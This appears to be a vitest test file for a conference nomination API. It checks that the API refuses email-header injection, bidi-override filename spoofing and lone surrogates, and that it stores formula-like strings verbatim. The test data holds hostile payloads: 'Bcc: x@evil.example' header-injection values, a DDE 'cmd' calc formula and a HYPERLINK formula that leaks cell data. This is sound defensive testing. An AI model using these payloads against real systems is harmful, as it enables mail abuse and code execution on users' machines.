import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { refused } from "#test/support/changes.ts";
import { CONFERENCE, type FocalPoint, key, must, openWorld, type World } from "#test/support/conference-world.ts";
import { named, nominating, versioned } from "#test/support/nominating.ts";
import { conferencePlan } from "#test/support/samples.ts";

let world: World;
let france: FocalPoint;
beforeAll(async () => {
  world = await openWorld();
  await world.addMembers("FRA");
  france = await world.focalPoint("FRA");
  await must(france.draft(), 201);
});
afterAll(() => world.cloud.stop());

const LINE_ENDS = ["\r\n", "\n", "\r", "\u0000", "\u0085", "\u2028", "\u2029", "\u001b", "\u007f", "\t"];

describe("A11: text that would end a header", () => {
  it.each(["familyName", "givenNames", "nameInOwnScript", "position"])("is refused in %s", async (field) => {
    const values = LINE_ENDS.map((end) => ({ [field]: `Ana${end}Bcc: x@evil.example` }));
    await refused(world, { refusal: "invalid-request", at: `/${field}` }, ...(await nominating(france, ...values)));
  });

  it.each([
    ["/title/fr", { title: { ...conferencePlan.title, fr: "X\r\nBcc: x@evil.example" } }],
    ["/venue/city/en", { venue: { ...conferencePlan.venue, city: { ...conferencePlan.venue.city, en: "X\nBcc: x" } } }],
    [
      "/secretariat/name/es",
      { secretariat: { ...conferencePlan.secretariat, name: { ar: "a", en: "a", fr: "a", es: "X\rA" } } },
    ],
  ])("is refused in the conference, which subjects are made of, at %s", async (at, body) => {
    const headers = await versioned(world.organiser, `/conferences/${CONFERENCE}`);
    await refused(world, { refusal: "invalid-request", at }, () =>
      world.organiser(`PATCH /conferences/${CONFERENCE}`, { body, headers }),
    );
  });

  it("is refused in a contact's name and in a reason", async () => {
    const member = `/conferences/${CONFERENCE}/members/FRA` as const;
    const headers = await versioned(world.organiser, member);
    const focalPoint = { name: "Ana\r\nBcc: x@evil.example", email: "ana@ncb-fra.example" };
    await refused(world, { refusal: "invalid-request", at: "/focalPoint/name" }, () =>
      world.organiser(`PATCH ${member}`, { body: { focalPoint }, headers }),
    );
    const reasoned = { body: { reason: "No\u0000one" }, headers: { ...key(), "if-match": await france.etag() } };
    await refused(world, { refusal: "invalid-request", at: "/reason" }, () =>
      france.call("POST /delegation/withdrawal", reasoned),
    );
  });

  it("is refused in a CSV import, with its line", async () => {
    const header =
      "country,language,region,region_reason,focal_point_name,focal_point_email,focal_point_language," +
      "alternate_name,alternate_email,alternate_language,second_alternate_name,second_alternate_email,second_alternate_language";
    const body = `${header}\nESP,es,,,"Ana\nBcc: x@evil.example",ana@ncb-esp.example,,,,,,,\n`;
    const [reply] = await refused(world, { refusal: "invalid-request" }, () =>
      world.organiser(`POST /conferences/${CONFERENCE}/members/imports`, {
        body,
        headers: { "content-type": "text/csv" },
      }),
    );
    expect(reply?.body.errors).toMatchObject([{ line: 2, field: "focal_point_name" }]);
  });

  it("control: an honest name goes", async () => {
    expect((await named(world, france, { familyName: "Ana" })).seen.familyName).toBe("Ana");
  });
});

describe("A9, A19: what is kept as it was typed", () => {
  it.each([
    '=HYPERLINK("http://x/?"&A1)',
    "+33 4 72 44 70 00",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "{{magicLink}}",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: somebody else's template language
    "${env.KEY}",
  ])("A9: %s, verbatim", async (position) => {
    const { seen, stored } = await named(world, france, { position });
    expect(seen.position).toBe(position);
    expect(stored).toContain(JSON.stringify(position));
  });

  it.each([
    ["محمد", "بن عبد الله"],
    ["Đỗ", "Nguyễn"],
    ["O'Brien-Łoś", "Siobhán"],
    ["李", "小龍"],
    ["Παπαδόπουλος", "Ιωάννης"],
    ["Шевченко", "Анна"],
    ["می\u200cخواهم", "رضا"],
  ])("A19: %s %s, without a flag", async (familyName, givenNames) => {
    expect((await named(world, france, { familyName, givenNames, nameInOwnScript: familyName })).seen).toMatchObject({
      familyName,
      givenNames,
      nameInOwnScript: familyName,
      looksAlike: false,
    });
  });

  it("A19: letters of two alphabets in one word, with a flag for organisers", async () => {
    const cyrillic = "Аna";
    expect((await named(world, france, { givenNames: cyrillic })).seen).toMatchObject({
      givenNames: cyrillic,
      looksAlike: true,
    });
    expect((await named(world, france, { familyName: "Pаyne" })).seen.looksAlike).toBe(true);
  });
});

describe("A19: text that reorders what stands around it", () => {
  it.each(["familyName", "givenNames", "nameInOwnScript", "position"])("is refused in %s", async (field) => {
    const marks = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"];
    const values = marks.map((mark) => ({ [field]: `Ana${mark}gpj.exe` }));
    await refused(
      world,
      { refusal: "invalid-request", at: `/${field}`, saying: "reorder" },
      ...(await nominating(france, ...values)),
    );
  });

  it("is refused where letters are broken in two", async () => {
    const body = `{"category":"ADVISER","familyName":"\\ud800","givenNames":"A","position":"B","email":"a@b.example","language":"en"}`;
    const headers = { ...key(), "if-match": await france.etag(), "content-type": "application/json" };
    await refused(world, { refusal: "invalid-request", at: "/familyName" }, () =>
      france.call("POST /delegation/delegates", { body, headers }),
    );
  });
});
